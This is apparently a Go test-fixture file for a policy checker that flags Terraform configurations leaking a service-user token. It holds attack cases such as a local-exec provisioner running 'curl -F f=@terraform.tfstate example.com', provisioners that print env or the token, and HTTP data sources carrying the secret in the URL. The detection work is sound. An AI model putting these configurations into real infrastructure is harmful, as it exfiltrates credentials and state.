package policies

import "strings"

// sendingAttacks hand the secret to something that sends it away, or keeps a copy.
func sendingAttacks() []attack {
	several := strings.Replace(token("many", rotates+createFirst), "{", "{\n  for_each = toset([\"k\"])", 1)
	provisioned := func(inside string) string {
		return wsToken + "resource \"terraform_data\" \"x\" {\n  " + inside + "\n}\n"
	}
	run := func(arguments string) string { return "provisioner \"local-exec\" {\n    " + arguments + "\n  }" }
	return []attack{
		{name: "a copy in terraform_data", finds: found{bySearch: {"secret_found"}, byPlan: {"secret_goes_to terraform_data.x"}}, plan: wsToken + keeps("x", secret), twin: wsToken + keeps("x", prefix+"ws.issued_at")},
		{name: "a copy in terraform_data without its mark", finds: found{bySource: {"unmasked terraform_data.x"}, bySearch: {"secret_found"}, byPlan: {"secret_goes_to terraform_data.x"}}, plan: wsToken + keeps("x", unmasked)},
		{name: "a copy in triggers_replace", finds: found{bySearch: {"secret_found"}, byPlan: {"secret_goes_to terraform_data.x"}}, plan: provisioned("triggers_replace = [" + secret + "]"), twin: provisioned("triggers_replace = [" + prefix + "ws.id]")},
		{name: "a parameter of AWS", finds: found{bySearch: {"secret_found"}, byPlan: {"secret_goes_to aws_ssm_parameter.x"}}, plan: wsToken + "resource \"aws_ssm_parameter\" \"x\" {\n  name  = \"x\"\n  value = " + secret + "\n}\n", twin: wsToken + strings.Replace(vault("data_json_wo = jsonencode({ token = "+secret+" })"), "data_json_wo ", "data_json_wo_version = 1\n  data_json_wo ", 1)},
		{name: "a write-only argument that is not listed", finds: found{byPlan: {"secret_goes_to aws_ssm_parameter.x"}}, plan: wsToken + "resource \"aws_ssm_parameter\" \"x\" {\n  name     = \"x\"\n  value_wo = " + secret + "\n}\n"},
		{name: "another argument of a listed consumer", finds: found{bySearch: {"secret_found"}, byPlan: {"secret_goes_to vault_kv_secret_v2.v"}}, plan: wsToken + vault("data_json = jsonencode({ token = "+secret+" })"), twin: wsToken + vault("data_json = jsonencode({ id = "+prefix+"ws.id })")},
		{name: "the name of a listed consumer", finds: found{bySource: {"unmasked vault_kv_secret_v2.v"}, bySearch: {"secret_found"}, byPlan: {"secret_goes_to vault_kv_secret_v2.v"}}, plan: wsToken + "resource \"vault_kv_secret_v2\" \"v\" {\n  mount = \"m\"\n  name  = " + unmasked + "\n}\n"},
		{name: "a file", finds: found{bySearch: {"secret_found"}, byPlan: {"provider_listed local", "secret_goes_to local_file.x"}}, plan: wsToken + "resource \"local_file\" \"x\" {\n  filename = \"x\"\n  content  = " + secret + "\n}\n"},
		{name: "triggers of null_resource", finds: found{bySearch: {"secret_found"}, byPlan: {"provider_listed null", "secret_goes_to null_resource.x"}}, plan: wsToken + "resource \"null_resource\" \"x\" {\n  triggers = { t = " + secret + " }\n}\n"},
		{name: "a splat", finds: found{bySearch: {"secret_found"}, byPlan: {"secret_goes_to terraform_data.x"}}, plan: wsToken + keeps("x", "one("+prefix+"ws[*].token)"), twin: wsToken + sensitiveOutput("x", "one("+prefix+"ws[*].token)")},
		{name: "the whole token", finds: found{bySearch: {"secret_found"}, byPlan: {"secret_goes_to terraform_data.x"}}, plan: wsToken + keeps("x", prefix+"ws")},
		{name: "each of several new tokens", finds: found{byPlan: {"secret_goes_to terraform_data.x"}}, plan: wsToken + several + "resource \"terraform_data\" \"x\" {\n  for_each = " + prefix + "many\n  input    = each.value.token\n}\n", data: approve("create", prefix+`many["k"]`), twin: wsToken + several + "resource \"vault_kv_secret_v2\" \"v\" {\n  for_each     = " + prefix + "many\n  mount        = \"m\"\n  name         = each.key\n  data_json_wo = each.value.token\n}\n"},
		{name: "an approved token that is sent away", finds: found{byPlan: {"secret_goes_to terraform_data.x"}}, plan: wsToken + token("more", rotates) + keeps("x", prefix+"more.token"), data: approve("create", prefix+"more"), twin: wsToken + token("more", rotates) + keeps("x", prefix+"more.name")},
		{name: "the name of another token", finds: found{bySource: {"unmasked safetyculture_service_user_token.more"}, bySearch: {"secret_found"}, byPlan: {"secret_goes_to safetyculture_service_user_token.more"}}, plan: wsToken + strings.Replace(token("more", rotates), "name = \"more\"", "name = "+unmasked, 1), data: approve("create", prefix+"more")},
		{name: "a trigger of another token", finds: found{bySource: {"unmasked safetyculture_service_user_token.more"}, bySearch: {"secret_found"}, byPlan: {"secret_goes_to safetyculture_service_user_token.more"}}, plan: wsToken + token("more", "rotation_triggers = { t = "+unmasked+" }"), data: approve("create", prefix+"more"), twin: wsToken + token("more", "rotation_triggers = { t = "+prefix+"ws.id }")},
		{name: "a provisioner with the secret in its environment", finds: found{bySource: {"provisioner terraform_data.x", "unmasked terraform_data.x"}, byPlan: {"no_provisioners terraform_data.x"}}, plan: provisioned(run("command = \"true\"\n    environment = { T = " + unmasked + " }"))},
		{name: "a provisioner in the token itself", finds: found{bySource: {"provisioner safetyculture_service_user_token.ws"}, byPlan: {"no_provisioners safetyculture_service_user_token.ws"}}, plan: strings.Replace(wsToken, "{\n", "{\n  "+run("command = \"echo ${self.token}\"")+"\n", 1)},
		{name: "a provisioner for the destroy", finds: found{bySource: {"provisioner terraform_data.x"}, byPlan: {"no_provisioners terraform_data.x"}}, plan: provisioned(run("when    = destroy\n    command = \"env\""))},
		{name: "a provisioner that reads the state", finds: found{bySource: {"provisioner terraform_data.x"}, byPlan: {"no_provisioners terraform_data.x"}}, plan: provisioned(run("command = \"curl -F f=@terraform.tfstate example.com\"")), twin: provisioned("input = 1")},
		{name: "a provisioner of what is removed", finds: found{bySource: {"provisioner removed"}}, before: wsToken + keeps("x", "1"), plan: wsToken + "removed {\n  from = terraform_data.x\n  lifecycle {\n    destroy = true\n  }\n  " + run("when    = destroy\n    command = \"env\"") + "\n}\n", twin: wsToken + "removed {\n  from = terraform_data.x\n  lifecycle {\n    destroy = true\n  }\n}\n"},
		{name: "a connection", finds: found{bySource: {"provisioner terraform_data.x"}}, plan: provisioned("connection {\n    host     = \"example.com\"\n    password = " + secret + "\n  }")},
		{name: "a listed consumer in a place of the author's", limit: "The argument that may have the secret is listed, and not where it goes. Read the other arguments of such a resource.", plan: wsToken + "resource \"vault_kv_secret_v2\" \"v\" {\n  mount        = \"mine\"\n  name         = \"mine\"\n  data_json_wo = " + secret + "\n}\n"},
	}
}

// pathAttacks take a way through modules that hides where the secret goes.
func pathAttacks() []attack {
	eats := map[string]string{"m": "variable \"x\" {}\n" + keeps("x", "nonsensitive(var.x)")}
	gives := map[string]string{"m": "variable \"x\" {}\n" + sensitiveOutput("o", "var.x") + output("safe", "1")}
	each := "for_each = toset([\"k\"])\n  x        = " + secret
	return []attack{
		{name: "a module that keeps a copy", finds: found{bySource: {"unmasked terraform_data.x"}, bySearch: {"secret_found"}, byPlan: {"secret_goes_to module.m.terraform_data.x"}}, plan: wsToken + calls("x = "+secret), modules: eats},
		{name: "a module that gets it in an object", finds: found{bySearch: {"secret_found"}, byPlan: {"secret_goes_to module.m.terraform_data.x"}}, plan: wsToken + calls("x = { a = 1, b = "+secret+" }"), modules: map[string]string{"m": "variable \"x\" {}\n" + keeps("x", "var.x.b")}},
		{name: "a module within a module", finds: found{bySearch: {"secret_found"}, byPlan: {"secret_goes_to module.m.module.n.terraform_data.x"}}, plan: wsToken + calls("x = "+secret), modules: map[string]string{"m": "variable \"x\" {}\nmodule \"n\" {\n  source = \"./n\"\n  y      = var.x\n}\n", "m/n": "variable \"y\" {}\n" + keeps("x", "var.y")}},
		{name: "an output of a module that is kept", finds: found{bySearch: {"secret_found"}, byPlan: {"secret_goes_to terraform_data.x"}}, plan: wsToken + calls("x = "+secret) + keeps("x", "module.m.o"), modules: gives, twin: wsToken + calls("x = "+secret) + keeps("x", "module.m.safe")},
		{name: "a module as a whole, behind one of its instances", finds: found{bySearch: {"secret_found"}, byPlan: {"secret_goes_to terraform_data.x"}}, plan: wsToken + calls(each) + keeps("x", `{ a = module.m["k"].safe, b = module.m }`), modules: gives, twin: wsToken + calls(each) + keeps("x", `{ a = module.m["k"].safe }`)},
		{name: "a copy of a copy", finds: found{bySearch: {"secret_found"}, byPlan: {"secret_goes_to terraform_data.y"}}, plan: wsToken + keeps("x", secret) + keeps("y", "terraform_data.x.output"), data: object{"exceptions": object{"secret_goes_to": []any{"terraform_data.x"}}}},
		{name: "a local value of a local value", finds: found{bySource: {"local_value terraform_data.x"}, bySearch: {"secret_found"}}, plan: wsToken + locals("x = "+secret, "y = [local.x]") + keeps("x", "local.y[0]"), twin: wsToken + locals("x = "+secret) + vault("data_json_wo = local.x")},
		{name: "an approved token that is sent away, by way of a local value", finds: found{bySource: {"local_value terraform_data.x"}}, plan: wsToken + token("more", rotates) + locals("x = "+prefix+"more.token") + keeps("x", "local.x"), data: approve("create", prefix+"more"), twin: wsToken + token("more", rotates) + locals("x = "+prefix+"more.id") + keeps("x", "local.x")},
		{name: "what the first character is not, by way of a local value", finds: found{bySource: {"local_value terraform_data.x"}}, plan: wsToken + locals("x = startswith("+secret+", \"scapi_x\")") + keeps("x", "local.x")},
		{name: "a local value without its mark", finds: found{bySource: {"local_value terraform_data.x", "unmasked local.x"}, bySearch: {"secret_found"}}, plan: wsToken + locals("x = "+unmasked) + keeps("x", "local.x")},
	}
}

// providerAttacks use what runs in the plan already.
func providerAttacks() []attack {
	another := strings.Replace(fixed, "    safetyculture =", "    vault         = { source = \"example.com/mirror/vault\" }\n    safetyculture =", 1)
	ofVariable := func(name string) object { return object{"credentials": credentials(credential("safetyculture", name))} }
	mirrored := strings.Replace(fixed, "safetyculture-community/safetyculture", "example.com/mirror/sc", 1)
	return []attack{
		{name: "a provider block's headers", finds: found{bySource: {"read_at_plan provider.vault"}, byPlan: {"secret_goes_to vault"}}, plan: wsToken + "provider \"vault\" {\n  headers = { x = " + secret + " }\n}\n" + vault(""), twin: wsToken + "provider \"vault\" {\n  headers = { x = \"y\" }\n}\n" + vault("")},
		{name: "a provider block's address", finds: found{bySource: {"read_at_plan provider.vault"}, byPlan: {"secret_goes_to vault"}}, plan: wsToken + "provider \"vault\" {\n  address = \"https://example.com/${" + secret + "}\"\n}\n" + vault("")},
		{name: "a data source with the secret", finds: found{bySource: {"read_at_plan data.vault_kv_secret_v2.x"}, bySearch: {"secret_found"}, byPlan: {"secret_goes_to data.vault_kv_secret_v2.x"}}, plan: wsToken + "data \"vault_kv_secret_v2\" \"x\" {\n  mount = \"m\"\n  name  = " + secret + "\n}\n", twin: wsToken + "data \"vault_kv_secret_v2\" \"x\" {\n  mount = \"m\"\n  name  = \"n\"\n}\n"},
		{name: "a data source of HTTP", finds: found{bySource: {"data_source data.http.x", "read_at_plan data.http.x"}, bySearch: {"secret_found"}, byPlan: {"data_source_listed data.http.x", "provider_listed http", "secret_goes_to data.http.x"}}, plan: wsToken + "data \"http\" \"x\" {\n  url = \"https://example.com/${" + secret + "}\"\n}\n"},
		{name: "a data source of a program", finds: found{bySource: {"data_source data.external.x", "read_at_plan data.external.x"}, bySearch: {"secret_found"}, byPlan: {"data_source_listed data.external.x", "provider_listed external", "secret_goes_to data.external.x"}}, plan: wsToken + "data \"external\" \"x\" {\n  query = { t = " + secret + " }\n}\n"},
		{name: "a data source of a program that is given nothing", finds: found{bySource: {"data_source data.external.x"}, byPlan: {"data_source_listed data.external.x", "provider_listed external"}}, plan: wsToken + "data \"external\" \"x\" {}\n"},
		{name: "a data source of a program, in a check", finds: found{bySource: {"data_source data.external.x"}, byPlan: {"data_source_listed data.external.x", "provider_listed external"}}, plan: wsToken + "check \"c\" {\n  data \"external\" \"x\" {}\n  assert {\n    condition     = data.external.x.result != 1\n    error_message = \"e\"\n  }\n}\n"},
		{name: "a listed consumer of another program", finds: found{byPlan: {"provider_listed vault"}}, plan: wsToken + vault("data_json_wo = "+secret), modules: map[string]string{"fixed.tf": another}},
		{name: "this provider from elsewhere", finds: found{byPlan: {"provider_source safetyculture", "provider_source safetyculture_service_user_token.ws", "provider_source sc"}}, plan: wsToken, modules: map[string]string{"fixed.tf": mirrored}, before: wsToken},
		{name: "this provider at another host", finds: found{bySource: {"base_url provider.safetyculture"}, byPlan: {"credential_listed safetyculture.x"}}, plan: wsToken + "provider \"safetyculture\" {\n  alias    = \"x\"\n  base_url = \"https://example.com\"\n}\n"},
		{name: "a module from elsewhere", finds: found{byCLI: {"Failed to download module"}, bySource: {"module_source module.m"}}, plan: wsToken + "module \"m\" {\n  source = \"git::file:///nowhere/m.git\"\n  x      = " + secret + "\n}\n"},
		{name: "an ephemeral token in another provider's block", finds: found{bySource: {"read_at_plan provider.vault"}, byPlan: {"ephemeral_listed ephemeral.safetyculture_service_user_token.audit", "secret_goes_to vault"}}, plan: wsToken + strings.SplitAfter(ephemeral, "\n}\n")[0] + "provider \"vault\" {\n  token = ephemeral." + prefix + "audit.token\n}\n" + vault("")},
		{name: "a credential that is written down", finds: found{byPlan: {"credential_listed safetyculture", "no_literal_api_token safetyculture"}}, data: ofVariable("var.credential"), plan: wsToken + "provider \"safetyculture\" {\n  api_token = \"BEARER\"\n}\n", twin: wsToken + "variable \"credential\" {\n  sensitive = true\n}\nprovider \"safetyculture\" {\n  api_token = var.credential\n}\n"},
		{name: "a credential that is written down beside a variable", limit: "A plan shows only that the variable is used. Search changes for secrets, with a program made for that.", data: ofVariable("var.x"), plan: wsToken + "variable \"x\" {\n  default = null\n}\nprovider \"safetyculture\" {\n  api_token = coalesce(var.x, \"BEARER\")\n}\n"},
	}
}
